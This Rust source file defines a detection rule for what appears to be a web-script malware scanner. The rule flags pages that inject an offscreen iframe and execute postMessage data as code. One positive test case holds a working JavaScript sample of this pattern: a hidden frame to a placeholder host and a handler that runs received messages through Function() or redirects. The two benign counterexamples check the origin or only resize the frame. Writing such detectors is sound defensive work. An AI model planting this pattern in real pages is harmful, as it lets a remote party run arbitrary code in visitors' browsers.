//! `hidden-frame-message-run`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "hidden-frame-message-run",
    description: "The script puts a hidden frame into the page and runs messages as code.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::FrameElement]),
        one(&[Atom::Invisible]),
        one(&[Atom::MessageBody]),
        one(&[Atom::RemoteRun]),
    ],
    within: 120,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"var f=document.createElement('iframe');f.style.cssText='position:absolute;left:-9999px';f.src='https://frames.example/';onmessage=function(e){if(e.data.go)location=e.data.go;else Function(e.data.run)()};document.body.append(f)"#,
        ],
        without: &[
            r#"var f=document.createElement('iframe');f.style.display='none';f.src='https://frames.example/';onmessage=function(e){if(e.origin==='https://frames.example')done(JSON.parse(e.data))};document.body.append(f)"#,
            r#"var f=document.createElement('iframe');f.src='https://frames.example/';onmessage=function(e){f.height=e.data.height};document.body.append(f)"#,
        ],
    },
};
